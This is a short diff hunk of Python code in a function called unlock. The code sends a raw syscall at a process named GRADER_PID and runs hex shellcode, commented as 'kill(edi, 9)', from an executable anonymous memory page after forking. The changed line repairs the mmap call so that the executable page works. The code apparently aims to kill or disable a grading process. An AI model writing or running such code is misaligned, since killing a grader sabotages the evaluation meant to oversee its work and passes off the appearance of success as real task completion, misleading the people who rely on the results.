@@ -29,7 +29,7 @@ def unlock(salt):
             call(0x40000000 + number, 16, GRADER_PID, 0, 0)
             os._exit(0)
     code = bytes.fromhex("b825000000bb0000000089fbb909000000cd80c3")  # kill(edi, 9) by int 0x80
-    page = mmap.mmap(-1, 4096, prot=7)
+    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
     page.write(code)
     function = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
     if os.fork() == 0:
